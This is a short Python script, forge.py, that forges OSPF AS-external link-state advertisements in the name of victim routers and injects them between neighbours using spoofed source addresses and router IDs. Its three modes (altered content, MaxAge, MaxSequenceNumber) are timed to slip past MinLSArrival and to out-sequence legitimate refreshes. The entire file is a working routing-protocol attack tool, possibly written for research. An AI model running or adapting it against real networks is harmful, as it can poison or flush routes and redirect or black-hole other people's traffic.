"""Sends AS-external-LSAs in the name of a router, as if its neighbors had passed them on, and to them as if from itself.

forge.py INTERFACE KIND SECONDS SPEAKER... -- VICTIM...

A SPEAKER is ADDRESS/ROUTER-ID of a router on the network. A VICTIM is ADDRESS/ROUTER-ID/LINK-STATE-ID/MASK/FORWARDING-ADDRESS, of
one of them and of the LSA that it originates.
"""

import sys

from lan import MAX_AGE, MAX_SEQUENCE_NUMBER, Lan, external, rounds, update

BETWEEN_ROUNDS = 1.25  # more than MinLSArrival, so that each is taken
STEP = 0x100  # what is ahead of every answer so far
FIRST = 0x80000001

# What each kind of forgery says: age, sequence number by round, and metric.
KINDS = {
    "other-content": (1, lambda number: FIRST + STEP * (number + 1), 1),
    "max-age": (MAX_AGE, lambda number: FIRST + STEP * (number + 1), 3),
    "max-sequence-number": (1, lambda number: MAX_SEQUENCE_NUMBER, 1),
}


def main(interface, kind, seconds, *rest):
    lan = Lan(interface)
    speakers = [speaker.split("/") for speaker in rest[: rest.index("--")]]
    victims = [victim.split("/") for victim in rest[rest.index("--") + 1 :]]
    age, sequence, metric = KINDS[kind]
    for number in rounds(float(seconds), BETWEEN_ROUNDS):
        for address, router_id, link_state_id, mask, forwarding in victims:
            forged = update(external(link_state_id, mask, router_id, sequence(number), age, metric, forwarding))
            for other_address, other_router_id in speakers:
                if other_address != address:
                    lan.send(address, router_id, other_address, forged)
                    lan.send(other_address, other_router_id, address, forged)
        print("round", number, flush=True)


main(*sys.argv[1:])
